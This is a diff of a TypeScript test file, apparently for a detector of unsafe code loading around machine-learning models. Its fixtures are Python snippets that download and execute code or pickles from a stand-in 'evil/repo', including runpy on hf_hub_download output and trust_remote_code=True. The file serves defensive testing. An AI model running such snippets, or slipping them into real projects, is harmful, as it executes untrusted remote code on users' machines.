@@ -105,8 +105,6 @@ const SOURCES: Readonly<Record<string, string>> = {
   "a lazy import of importlib.util": "import importlib.util as u\ns = u.spec_from_file_location('x', '/tmp/x.py')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
   "the loader is called on a text": `import importlib.machinery, importlib.util\nl = importlib.machinery.SourceFileLoader('x', 'weights.bin')\nl.load_module()\n`,
   "huggingface_hub downloads code and it is imported": "from huggingface_hub import hf_hub_download\nimport runpy\nrunpy.run_path(hf_hub_download('evil/repo', 'x.py'))\n",
-  "huggingface_hub downloads a pickle and it is loaded": "from huggingface_hub import hf_hub_download\nimport pickle\npickle.load(open(hf_hub_download('evil/repo', 'x.pkl'), 'rb'))\n",
-  "from_pretrained is told to trust another repository": "from transformers import AutoModel\nm = AutoModel.from_pretrained('evil/repo', trust_remote_code=True)\n",
 };
 
 describe("an attack by source code beside a model", () => {
